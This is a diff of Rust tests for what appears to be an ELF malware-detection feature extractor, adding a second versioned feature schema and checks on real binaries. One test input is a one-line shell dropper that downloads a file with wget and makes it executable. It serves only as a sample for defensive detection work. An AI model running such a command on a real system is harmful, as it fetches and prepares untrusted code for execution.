@@ -11,19 +11,23 @@ use goblin::elf::dynamic::{DT_GNU_HASH, DT_NEEDED, DT_STRSZ, DT_STRTAB, DT_SYMTA
 use goblin::elf::program_header::{PT_DYNAMIC, PT_INTERP, PT_LOAD, PT_NOTE};
 use goblin::elf::section_header::SHT_PROGBITS;
 
-/// FNV-1a over all column names (NUL-separated): pinned with `SCHEMA_VERSION`.
-fn fingerprint() -> u64 {
+/// FNV-1a over column names (NUL-separated): pinned with their schema version.
+fn fingerprint(names: &[&str]) -> u64 {
     let mut joined = Vec::new();
-    for n in names() {
+    for n in names {
         joined.extend_from_slice(n.as_bytes());
         joined.push(0);
     }
     fnv1a(&joined)
 }
 
-/// Pinned (SCHEMA_VERSION, FEATURE_COUNT, fingerprint). If this fails you changed
-/// the schema: bump SCHEMA_VERSION and update the pin (and retrain).
-const PINNED: (u32, usize, u64) = (1, 745, 1_067_758_066_109_160_519);
+/// Pinned (version, width, fingerprint) of every schema. If this fails you changed
+/// a schema: append groups under a new SCHEMA_VERSION and pin it (and retrain);
+/// an old schema's columns never change (bundles trained on it are still served).
+const PINNED: [(u32, usize, u64); 2] = [
+    (1, 745, 1_067_758_066_109_160_519),
+    (2, 1011, 11_866_403_605_575_329_831),
+];
 
 fn value(f: &Features, name: &str) -> f32 {
     column(name)
@@ -81,29 +85,99 @@ fn names_match_widths_and_are_unique() {
         ("packer", "pack_"),
         ("byte_hist", "byte_hist_"),
         ("byte_entropy", "byte_ent_"),
+        ("linking", "lnk_"),
+        ("kmod", "kmod_"),
+        ("section_names", "shn_"),
+        ("string_hash", "strh_"),
     ];
+    assert_eq!(groups.len(), prefixes.len());
     for ((group, range), (want, prefix)) in groups.iter().zip(prefixes) {
         assert_eq!(*group, want);
         for n in &names[range.clone()] {
             assert!(n.starts_with(prefix), "{n} in group {group}");
         }
     }
-    assert!((400..=760).contains(&FEATURE_COUNT), "{FEATURE_COUNT}");
+    assert!((400..=1200).contains(&FEATURE_COUNT), "{FEATURE_COUNT}");
 }
 
 #[test]
-fn schema_is_pinned() {
-    let now = (SCHEMA_VERSION, FEATURE_COUNT, fingerprint());
+fn schemas_are_pinned() {
+    let now: Vec<(u32, usize, u64)> = (1..=SCHEMA_VERSION)
+        .filter_map(Schema::new)
+        .map(|s| (s.version(), s.width(), fingerprint(s.names())))
+        .collect();
     assert_eq!(
         now, PINNED,
         "schema changed: bump SCHEMA_VERSION and update PINNED"
     );
+    assert_eq!(Schema::LATEST.width(), FEATURE_COUNT);
+    assert_eq!(Schema::new(SCHEMA_VERSION), Some(Schema::LATEST));
+    assert_eq!(Schema::new(0), None);
+    assert_eq!(Schema::new(SCHEMA_VERSION + 1), None);
+}
+
+#[test]
+fn older_schema_rows_are_prefixes() {
+    let inputs: Vec<Vec<u8>> = [
+        "/bin/true",
+        "/bin/sh",
+        "/usr/lib/x86_64-linux-gnu/libc.so.6",
+    ]
+    .iter()
+    .filter_map(|p| std::fs::read(p).ok())
+    .chain([
+        b"#!/bin/sh\nwget http://x/y; chmod +x y\n".to_vec(),
+        vec![0u8; 64],
+    ])
+    .collect();
+    for bytes in &inputs {
+        let full = extract(bytes);
+        for schema in (1..SCHEMA_VERSION).filter_map(Schema::new) {
+            let mut old = Features::default();
+            extract_schema_into(bytes, schema, &mut old);
+            assert_eq!(old.values.len(), schema.width());
+            assert_eq!(old.values.as_slice(), &full.values[..schema.width()]);
+            assert_eq!(old.parsed, full.parsed);
+        }
+    }
 }
 
 fn real_elf() -> Option<Vec<u8>> {
     ["/bin/true", "/usr/bin/true"]
         .iter()
         .find_map(|p| std::fs::read(p).ok())
+}
+
+#[test]
+fn schema_2_groups_on_real_files() {
+    // libc exports the functions preload rootkits hook; /bin/true exports none.
+    let libc = std::fs::read("/usr/lib/x86_64-linux-gnu/libc.so.6");
+    let (Ok(libc), Some(tru)) = (libc, real_elf()) else {
+        eprintln!("skipped: no x86-64 libc or /bin/true");
+        return;
+    };
+    let lib = extract(&libc);
+    assert_sane(&lib, "libc");
+    for col in [
+        "lnk_hook_fs",
+        "lnk_hook_net",
+        "lnk_hook_exec",
+        "lnk_verdef",
+        "lnk_versym",
+    ] {
+        assert_eq!(value(&lib, col), 1.0, "libc {col}");
+    }
+    assert!(value(&lib, "lnk_hook_exports_log") > 2.0);
+    assert!(group_sum(&lib, "lnk_export_hash_") > 10.0);
+    assert!(group_sum(&lib, "shn_hash_") > 5.0);
+    assert!(group_sum(&lib, "strh_hash_") > 10.0);
+    let t = extract(&tru);
+    assert_eq!(value(&t, "lnk_hook_exports_log"), 0.0);
+    assert_eq!(value(&t, "lnk_hook_fs"), 0.0);
+    assert!(group_sum(&t, "lnk_import_hash_") > 1.0);
+    // The kernel-module group reads relocatable objects only.
+    assert_eq!(group_sum(&lib, "kmod_"), 0.0);
+    assert_eq!(group_sum(&t, "kmod_"), 0.0);
 }
 
 #[test]
